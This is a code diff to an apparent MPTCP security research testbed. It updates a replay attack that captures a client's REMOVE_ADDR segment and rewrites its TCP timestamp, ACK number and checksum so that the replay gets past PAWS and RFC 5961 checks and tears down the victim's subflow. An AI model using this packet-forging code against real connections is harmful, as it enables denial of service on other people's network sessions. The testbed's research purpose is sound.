@@ -8,7 +8,8 @@ path 1 and closes path 2) and adds it again with the same id (a new path-2 join)
 REMOVE_ADDR segment off path 1 and, after data moved on, replays the captured frame byte for byte. A server that
 acts on it closes the NEW path-2 subflow again: the client's own, authenticated signal, used against it. Against
 plain MPTCP the signal is unauthenticated anyway; the replay has the same effect (as attack 4a), once its
-timestamp is refreshed (PAWS, RFC 7323 §5, drops it otherwise; nothing authenticates the timestamp).
+timestamp and ACK are freshened (PAWS, RFC 7323 §5, and RFC 5961 §5.2 drop it otherwise; nothing authenticates
+them).
 
 The transfer is download-only (`TRANSFER`): a replayed segment is acted on by the server's kernel only while its
 sequence number is still in the receive window (RFC 9293 §3.10.7.4), i.e. while the signal's sender has sent no data
@@ -55,18 +56,20 @@ def attack(agent) -> dict:
     replay_t = time.time()
     for _ in range(REPLAYS):
         packet, how = sig.packet, "byte for byte"
-        if sig.ts is not None and v.c2s.ts is not None:  # plain MPTCP: PAWS would drop the old TSval
-            packet, how = refresh_timestamp(sig.packet, v.c2s.ts), "with the client's latest timestamp"
+        if not sig.mac and sig.ts is not None and v.c2s.ts is not None:
+            # plain MPTCP, nothing authenticated: PAWS would drop the old TSval, and an ACK older than the
+            # peer's window the RFC 5961 §5.2 check; the attacker freshens both
+            packet, how = refresh(sig.packet, v.c2s.ts, v.c2s.ack), "with the client's latest timestamp and ACK"
         agent.send(head + packet, f"the victim's REMOVE_ADDR segment replayed {how}", seq=sig.seq, ack=sig.ack)
         agent.pump(time.time() + 0.15)
     return {"captured": captured, "replay_t": round(replay_t, 4),
             "seq_moved_since": (v.c2s.nxt - sig.seq) & 0xFFFFFFFF if v.c2s.nxt is not None else None}
 
 
-def refresh_timestamp(packet: bytes, ts: tuple[int, int]) -> bytes:
-    """`packet` with its TCP timestamp option set to `ts` (TSval, TSecr) and its TCP checksum fixed. Only a
-    segment without a MAC can be changed so; a protected subflow carries no timestamps (no PAWS), so its replay
-    is the captured bytes."""
+def refresh(packet: bytes, ts: tuple[int, int], ack: int) -> bytes:
+    """`packet` with its TCP timestamp option set to `ts` (TSval, TSecr), its ACK number to `ack` and its TCP
+    checksum fixed. Only a segment without a MAC can be changed so; a protected subflow carries no timestamps (no
+    PAWS), so its replay is the captured bytes."""
     from mptcrypt.constants import TCPOPT_TIMESTAMP
     from mptcrypt.wire.checksum import tcp_checksum
     from mptcrypt.wire.segment import parse_segment
@@ -77,6 +80,7 @@ def refresh_timestamp(packet: bytes, ts: tuple[int, int]) -> bytes:
     while at < end and packet[at] != TCPOPT_TIMESTAMP:  # well-formed: the tap's parser read it (Seg.ts)
         at += 1 if packet[at] <= 1 else packet[at + 1]
     out[at + 2:at + 10] = struct.pack("!II", *ts)
+    out[seg.l4 + 8:seg.l4 + 12] = struct.pack("!I", ack)
     out[seg.l4 + 16:seg.l4 + 18] = b"\0\0"
     out[seg.l4 + 16:seg.l4 + 18] = struct.pack("!H", tcp_checksum(seg.src, seg.dst, bytes(out[seg.l4:])))
     return bytes(out)
